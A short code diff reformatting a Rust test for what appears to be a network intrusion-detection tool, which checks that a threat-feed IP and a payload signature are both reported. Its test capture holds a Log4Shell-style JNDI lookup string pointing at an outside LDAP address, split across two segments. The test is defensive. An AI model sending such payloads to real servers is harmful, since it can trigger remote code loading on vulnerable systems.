@@ -19,7 +19,8 @@ const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 9);
 const OURS: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 5);
 
 /// An attack, in two segments of which neither has all of it.
-const ATTACK: [&[u8]; 2] = [b"GET /?x=${jn", b"di:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"];
+const ATTACK: [&[u8]; 2] =
+    [b"GET /?x=${jn", b"di:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"];
 
 /// A connection to a listed address, one from it, and one that begins with an attack.
 fn capture() -> Vec<u8> {
@@ -91,7 +92,8 @@ fn a_listed_address_and_an_attack_in_two_segments_are_told() {
     assert_eq!(rules[1..], [[&Value::from("payload.match"), &"198.51.100.9".into(), &1.into()]]);
 
     // The file says it as well, and who wants neither hears of neither.
-    let config = file("looks.toml", b"[[feeds]]\nname = \"bad\"\nfile = \"bad.txt\"\n[signatures]\nenabled = false\n");
+    let config =
+        file("looks.toml", b"[[feeds]]\nname = \"bad\"\nfile = \"bad.txt\"\n[signatures]\nenabled = false\n");
     let (_, lines, _) = replay(&format!("-c {config}"), &path);
     assert!(lines.contains("ioc.ip") && !lines.contains("payload.match"), "{lines}");
     let (_, lines, _) = replay("", &path);
